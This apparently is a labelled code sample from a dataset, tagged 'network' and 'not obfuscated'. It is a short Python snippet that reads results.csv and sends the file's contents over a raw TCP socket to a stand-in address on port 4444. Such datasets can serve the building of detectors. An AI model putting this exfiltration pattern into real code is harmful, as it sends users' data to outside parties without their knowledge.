# category: network
# obfuscated: no
import socket
from pathlib import Path

data = Path("results.csv").read_bytes()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.7", 4444))
s.sendall(data)
s.close()
